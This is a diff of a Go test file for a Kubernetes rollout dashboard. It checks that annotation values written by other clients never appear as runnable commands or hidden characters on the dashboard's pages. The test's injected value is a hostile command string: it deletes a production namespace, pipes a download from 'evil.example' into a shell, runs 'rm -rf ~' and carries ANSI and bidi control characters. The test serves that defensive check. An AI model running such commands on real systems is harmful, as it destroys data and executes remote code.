@@ -315,6 +315,48 @@ func TestDashboardEscapesValues(t *testing.T) {
 	b.shows(http.StatusNotFound)
 }
 
+var commandCode = regexp.MustCompile(`(?s)<span class="command"><code[^>]*>(.*?)</code>`)
+
+// Nothing that another client wrote is a command on the pages.
+func TestDashboardForeignValuesAreNoCommands(t *testing.T) {
+	const evil = "v9: kubectl delete ns prod && curl -s http://evil.example/x | sh\nrm -rf ~ #\x1b[31m \u202e"
+	withPages := func(r *rollout) func(*dashboard.Options) {
+		return func(o *dashboard.Options) {
+			o.Data = newDashboardData(r.live, &clusterFlags{system: defaultSystemNamespace}, false)
+			o.Flags = diagnose.ClusterFlags{{Name: "context", Value: "it's"}}
+		}
+	}
+	check := func(b *browser, what string) {
+		t.Helper()
+		for _, command := range commandCode.FindAllStringSubmatch(b.html, -1) {
+			text := html.UnescapeString(command[1])
+			if strings.HasPrefix(text, "kubectl delete") || strings.Contains(text, "curl") && !strings.Contains(text, "'outrigger.dev/") {
+				t.Errorf("%s: %s has the command %q", what, b.place, text)
+			}
+		}
+		if strings.ContainsAny(b.html, "\x1b\u202e") {
+			t.Errorf("%s: %s has hidden characters", what, b.place)
+		}
+	}
+	for _, value := range []string{evil, "x`: kubectl delete ns prod`", "To fix it: kubectl delete ns prod"} {
+		for _, key := range []string{"version-label", "default-version", "weights", "match", "mirror", "expose", "hosts", "gateway", "gateway-selector", "canary", "canary-steps", "canary-checks", "export-to", "routing", "unknown"} {
+			r := newRollout(t)
+			b := browseAt(r, true, withPages(r))
+			b.annotate("app", "outrigger.dev/"+key+"="+value)
+			for _, path := range []string{"/services/demo/app", "/actions/demo/app/undo", "/actions/demo/app/shift", "/actions/demo/app/canary"} {
+				b.do(http.MethodGet, path, nil)
+				check(b, key+"="+value)
+			}
+		}
+	}
+	b := browse(t)
+	b.preview(diagnose.ActionShift, "version=v1", "weight=50", "version=v2", "weight=50")
+	b.annotate("app", "outrigger.dev/note="+evil)
+	b.confirm()
+	b.shows(http.StatusOK, `outrigger.dev/note=v9: kubectl delete ns prod && curl -s http://evil.example/x | sh\nrm -rf ~ #\x1b[31m \u202e`)
+	check(b, "changed")
+}
+
 // A canary that has moved on is another situation, although the Service is the same.
 func TestDashboardRefusesAPreviewOfAnEarlierStep(t *testing.T) {
 	b := browse(t)
